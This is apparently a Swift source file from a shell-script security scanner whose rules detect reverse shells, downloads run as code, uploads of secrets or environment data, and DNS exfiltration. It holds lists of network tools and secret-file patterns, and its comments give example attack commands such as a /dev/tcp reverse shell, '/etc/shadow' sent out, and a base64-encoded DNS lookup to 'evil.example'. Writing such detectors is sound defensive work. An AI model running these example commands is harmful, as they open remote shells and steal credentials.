import Foundation

/// Network clients: downloads run as code, secrets sent out, shells connected to remote
/// hosts, data hidden in DNS names.
enum NetworkRules {
    static let senders: Set<String> = ["curl", "wget", "nc", "ncat", "netcat", "socat", "scp", "sftp", "rsync", "ftp", "tftp", "telnet", "openssl", "ssh", "http", "xh"]
    static let resolvers: Set<String> = ["dig", "nslookup", "host", "drill", "resolvectl", "getent"]
    /// The commands the switch in ``check(_:facts:report:)`` has cases for.
    static let commands: Set<String> = resolvers.union([
        "curl", "wget", "aria2c", "fetch", "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "openssl",
        "scp", "sftp", "rsync", "mysqldump", "pg_dump", "pg_dumpall", "mongodump",
    ])

    static func check(_ invocation: CommandInvocation, facts: inout BashScriptFacts, report: BashCommandRules.Report) {
        let offset = invocation.offset
        // Reading secrets, by any command.
        if !facts.readSecrets, readsSecrets(invocation) { facts.readSecrets = true }
        switch invocation.name {
        case _ where !invocation.traits.contains(.network):
            break
        case "curl", "wget", "aria2c", "fetch":
            if let output = downloadTarget(invocation) { facts.downloadedPaths.insert(output) }
            if uploads(invocation) {
                if facts.readSecrets || invocation.values.contains(where: { $0.contains("@") && Secrets.isSecretPath($0) }) {
                    report(RuleCatalog.credentialsSent, offset, "\(invocation.name) sends secrets")
                } else if invocation.upstream.contains(where: { ["env", "printenv", "set", "export", "declare"].contains($0) }) || invocation.values.contains(where: { $0.contains("/proc/self/environ") }) {
                    report(RuleCatalog.environmentSent, offset, "\(invocation.name) sends the environment")
                } else if invocation.upstream.contains(where: { ["mysqldump", "pg_dump", "pg_dumpall", "mongodump", "tar", "zip"].contains($0) }) {
                    report(RuleCatalog.dataSent, offset, "\(invocation.name) sends \(invocation.upstream.joined(separator: "|"))")
                }
            }
        case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "openssl":
            let text = invocation.values.joined(separator: " ").asciiLowercased()
            if invocation.values.contains("-e") || invocation.values.contains("-c") || text.contains("--exec") || text.contains("--sh-exec")
                || invocation.name == "socat" && (text.contains("exec:") || text.contains("system:")) {
                report(RuleCatalog.reverseShell, offset, "\(invocation.name) runs a shell for a remote host")
            } else if readsSecretInput(invocation) || facts.readSecrets {
                report(RuleCatalog.credentialsSent, offset, "\(invocation.name) sends secrets")
            } else if invocation.upstream.contains(where: { ["mysqldump", "pg_dump", "pg_dumpall", "tar", "env", "printenv"].contains($0) }) {
                report(RuleCatalog.dataSent, offset, "\(invocation.name) sends \(invocation.upstream.joined(separator: "|"))")
            }
        case "scp", "sftp", "rsync":
            let remote = invocation.operands.contains { ($0.value ?? "").range(of: ":") != nil && !($0.value ?? "").hasPrefix("/") }
            if remote, invocation.operands.contains(where: { Secrets.isSecretPath($0.value ?? "") }) {
                report(RuleCatalog.credentialsSent, offset, "\(invocation.name) copies secrets to a remote host")
            }
        case _ where resolvers.contains(invocation.name):
            if invocation.operands.contains(where: { isNameBuiltFromData($0, readSecrets: facts.readSecrets) }) {
                report(RuleCatalog.dnsExfiltration, offset, "\(invocation.name) looks up a name built from data")
            }
        case "mysqldump", "pg_dump", "pg_dumpall", "mongodump":
            if invocation.values.contains(where: { $0.hasPrefix("--result-file=") && $0.contains(":") }) {
                report(RuleCatalog.dataSent, offset, invocation.name)
            }
        default:
            break
        }
        // Downloaded files run as programs.
        if !facts.downloadedPaths.isEmpty, facts.isDownloaded(invocation.name) || (["bash", "sh", "dash", "zsh", "python", "python3", "perl", "ruby", "node", "source", "."].contains(invocation.name)
            && invocation.operands.first.map({ facts.isDownloaded($0.value ?? "\u{0}") }) == true) {
            report(RuleCatalog.downloadThenRun, offset, "runs a file the script downloaded")
        }
        if !invocation.redirects.isEmpty { checkSocketRedirects(invocation, facts: facts, report: report) }
        checkInlineCode(invocation, report: report)
    }

    /// `bash -i >& /dev/tcp/h/p 0>&1`, `exec 5<>/dev/tcp/h/p`, `cat /etc/shadow > /dev/tcp/h/p`.
    static func checkSocketRedirects(_ invocation: CommandInvocation, facts: BashScriptFacts, report: BashCommandRules.Report) {
        for redirect in invocation.redirects {
            guard let path = redirect.target.staticValue, path.hasPrefix("/dev/tcp/") || path.hasPrefix("/dev/udp/") else { continue }
            if CommandNames.shells.contains(invocation.name) || invocation.name == "exec" || CommandNames.otherInterpreters.contains(invocation.name) {
                report(RuleCatalog.reverseShell, redirect.offset, "connects \(invocation.name) to \(path)")
            } else if facts.readSecrets || readsSecrets(invocation) {
                report(RuleCatalog.credentialsSent, redirect.offset, "sends secrets to \(path)")
            } else {
                report(RuleCatalog.networkChange, redirect.offset, "writes to \(path)")
            }
        }
    }

    /// Inline programs in other interpreters: sockets with a shell, downloads run as code.
    static func checkInlineCode(_ invocation: CommandInvocation, report: BashCommandRules.Report) {
        guard invocation.traits.contains(.otherInterpreter) else { return }
        let written = invocation.values.joined(separator: " ")
        let code = ([written] + EmbeddedBase64.decodedTexts(in: written)).joined(separator: "\n").asciiLowercased()
        let socket = code.contains("socket") || code.contains("tcpsocket") || code.contains("fsockopen") || code.contains("net.connect") || code.contains("io::socket")
        let shell = code.contains("subprocess") || code.contains("pty.spawn") || code.contains("os.dup2") || code.contains("/bin/sh") || code.contains("/bin/bash")
            || code.contains("exec(") || code.contains("system(") || code.contains("child_process") || code.contains("popen")
        if socket && shell {
            report(RuleCatalog.reverseShell, invocation.offset, "\(invocation.name) connects a shell to a socket")
            return
        }
        let download = code.contains("urlopen") || code.contains("urllib") || code.contains("requests.get") || code.contains("lwp::") || code.contains("open-uri") || code.contains("http.get")
        let runs = code.contains("exec(") || code.contains("eval(") || code.contains("system(") || code.contains("subprocess")
        if download && runs {
            report(RuleCatalog.pipeDownloadToInterpreter, invocation.offset, "\(invocation.name) downloads code and runs it")
        }
    }

    /// A looked-up name that carries data: a long encoded label, data in front of a fixed
    /// domain (`$(base64 f).evil.example`), a name computed by encoders or file readers,
    /// or any computed name once the script has read secrets. A name that is just a
    /// variable (`dig "$host"`) is an ordinary lookup.
    static func isNameBuiltFromData(_ name: ResolvedWord, readSecrets: Bool) -> Bool {
        if let value = name.value { return PSCommandRules.isDataInDNSName(value) }
        if readSecrets { return true }
        if name.knownSuffix.hasPrefix("."), name.knownSuffix.contains(where: \.isLetter) { return true }
        let source = name.source
        guard source.contains("$(") || source.contains("`") else { return false }
        return ["base64", "xxd", "hexdump", "od ", "basenc", "gzip", "cat ", "head ", "tail ", "/etc/", "env", "whoami", "id "].contains { source.contains($0) }
    }

    /// Whether the command reads a secret: as an operand, an input redirection, or a
    /// `find` for key files.
    static func readsSecrets(_ invocation: CommandInvocation) -> Bool {
        // Every command is asked: one pass over the known arguments, without building the
        // invocation's operand and value lists. An option counts when it names a file with `@`
        // (`curl -d @/etc/shadow`).
        if invocation.containsKnownArgument(where: { bytes, isOperand in
            (isOperand || bytes.contains(UInt8(ascii: "@"))) && Secrets.isSecretPath(bytes: bytes)
        }) {
            return true
        }
        if readsSecretInput(invocation) { return true }
        if invocation.name == "find" {
            let patterns = invocation.values.map { $0.asciiLowercased() }
            return patterns.contains { $0.hasPrefix("id_") || $0.contains("id_rsa") || $0.contains("id_ed25519") || $0.hasSuffix(".pem") || $0.hasSuffix(".key") || $0.contains("credentials") || $0 == "shadow" }
        }
        return false
    }

    static func readsSecretInput(_ invocation: CommandInvocation) -> Bool {
        invocation.redirects.contains { $0.op == .input && Secrets.isSecretPath($0.target.staticValue ?? "") }
    }

    /// The file a download writes, if it is saved.
    static func downloadTarget(_ invocation: CommandInvocation) -> String? {
        let arguments = invocation.values
        for (index, argument) in arguments.enumerated() {
            if ["-o", "-O", "--output", "--output-document"].contains(argument), index + 1 < arguments.count {
                if argument == "-O" && invocation.name == "curl" { break }
                return arguments[index + 1]
            }
            if argument.hasPrefix("--output-document=") || argument.hasPrefix("--output=") {
                return String(argument.split(separator: "=", maxSplits: 1).last ?? "")
            }
            if argument.hasPrefix("-o"), argument.count > 2, invocation.name == "curl" { return String(argument.dropFirst(2)) }
        }
        // `curl -O URL`, `wget URL`: saved under the URL's last path component.
        let saves = invocation.name == "wget" && !arguments.contains("-qO-") && !arguments.contains("-O-") || arguments.contains("-O") || arguments.contains("--remote-name")
        if saves, let url = invocation.operands.last?.value, url.contains("/") {
            return String(url.split(separator: "/").last ?? "")
        }
        return nil
    }

    /// Whether a curl or wget call sends data rather than only fetching.
    static func uploads(_ invocation: CommandInvocation) -> Bool {
        let arguments = invocation.values
        return arguments.contains { argument in
            ["-d", "-F", "-T", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--form", "--upload-file", "--post-file", "--post-data", "--body-file"].contains(argument)
                || argument.hasPrefix("--data") || argument.hasPrefix("--post-") || argument.hasPrefix("-d@") || argument.hasPrefix("-F")
        } || arguments.contains("-X") && arguments.contains { ["POST", "PUT", "PATCH"].contains($0) }
    }
}
